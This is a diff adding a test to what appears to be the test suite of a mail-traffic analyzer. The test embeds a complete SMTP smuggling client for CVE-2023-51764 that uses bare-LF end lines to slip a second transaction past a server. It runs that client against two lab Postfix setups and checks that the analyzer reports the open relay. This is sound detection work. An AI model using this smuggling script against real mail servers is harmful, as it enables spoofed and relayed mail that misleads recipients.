@@ -298,3 +298,63 @@ def test_probe_relay_test_follows_an_accepted_rcpt_with_data(verdicts_lab: V.Ver
     [service] = of(documents[V.RELAYING_PORT], "mail-service")
     assert service["relay_test"]["stopped"].startswith("DATA taken for variant 1 (354)")
     assert [f["severity"] for f in of(documents[V.RELAYING_PORT], "open-relay")] == ["high"]
+
+
+# ---- a message's end line with a bare LF (SMTP smuggling) ---------------------------------------------------------
+
+# A client that sends a message whose first end line is "\n.\n", then, in the same write, a second transaction to a
+# foreign recipient ending with the exact "\r\n.\r\n" (the smuggling of CVE-2023-51764), and prints what it got.
+SMUGGLER = r"""
+import socket, sys, time
+host, port, source, local_rcpt, foreign_rcpt = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
+s = socket.create_connection((host, port), timeout=20, source_address=(source, 0))
+got = b""
+def wait_for(text, deadline=20.0):
+    global got
+    end = time.time() + deadline
+    while text not in got and time.time() < end:
+        chunk = s.recv(65536)
+        if not chunk:
+            break
+        got += chunk
+wait_for(b"220 ")
+s.sendall(b"EHLO smuggler.example\r\n"); wait_for(b"250 ")
+s.sendall(b"MAIL FROM:<a@outside.example>\r\nRCPT TO:<%s>\r\nDATA\r\n" % local_rcpt.encode()); wait_for(b"354 ")
+s.sendall(b"Subject: first\r\n\r\nhello\n.\nMAIL FROM:<b@outside.example>\r\nRCPT TO:<%s>\r\nDATA\r\n"
+          b"Subject: smuggled\r\n\r\nsmuggled\r\n.\r\n" % foreign_rcpt.encode())
+wait_for(b"queued as", 10); time.sleep(1.0)
+try:
+    s.sendall(b"QUIT\r\n"); wait_for(b"221 ", 5)
+except OSError:
+    pass
+sys.stdout.write(got.decode("latin-1"))
+"""
+
+
+def test_bare_lf_end_line_read_as_postfix_read_it(verdicts_lab: V.VerdictsLab, tmp_path: Path) -> None:
+    """Postfix 3.7 with ``smtpd_forbid_bare_newline = no`` (Debian 12's default) ends the message at ``\\n.\\n`` and
+    runs the smuggled transaction: its foreign recipient is accepted and relayed, and the capture says so, with the
+    ``lax_end_taken`` anomaly. The same service with ``smtpd_forbid_bare_newline = yes`` reads on to the exact end:
+    one message, the smuggled lines in it, and no relay read from them (``lax_end_in_message``)."""
+    pcap = tmp_path / "smuggling.pcap"
+    ports = (V.RELAYING_PORT, V.EXACT_END_PORT)
+    with verdicts_lab.recording(pcap, "tcp"):
+        smuggler = [sys.executable, "-c", SMUGGLER, L.SRV_IP]
+        addresses = [V.EXTERNAL_CLIENTS[0], L.MAIL_TO, V.FOREIGN_RCPT]
+        got = {port: verdicts_lab.client([*smuggler, str(port), *addresses]) for port in ports}
+    took = got[V.RELAYING_PORT].stdout.decode().replace("\r", "")
+    assert took.count("queued as") == 2 and "250 2.1.5" in took and "354 " in took, took
+    read_on = got[V.EXACT_END_PORT].stdout.decode().replace("\r", "")
+    assert read_on.count("queued as") == 1 and read_on.count("250 2.1.5") == 1 and "221 " in read_on, read_on
+
+    out = tmp_path / "smuggling.json"
+    argv = [*LEAKSCOPE, "analyze", "--format", "json", "-o", str(out), "--trusted-net", f"{V.TRUSTED_CLIENT}/32"]
+    done = subprocess.run([*argv, str(pcap)], capture_output=True, timeout=ANALYZE_TIMEOUT, check=False)
+    assert done.returncode == 0, done.stderr.decode()
+    document = json.loads(out.read_text())
+    relays = {int(r["server"].rpartition(":")[2]): r for r in of(document["findings"], "open-relay")}
+    assert list(relays) == [V.RELAYING_PORT], relays
+    high = relays[V.RELAYING_PORT]
+    assert (high["verdict"], high["severity"], high["rcpt_to"]) == ("open-relay", "high", V.FOREIGN_RCPT)
+    anomalies = document["summary"]["dissector_anomalies"]
+    assert (anomalies.get("lax_end_taken"), anomalies.get("lax_end_in_message")) == (1, 1), anomalies
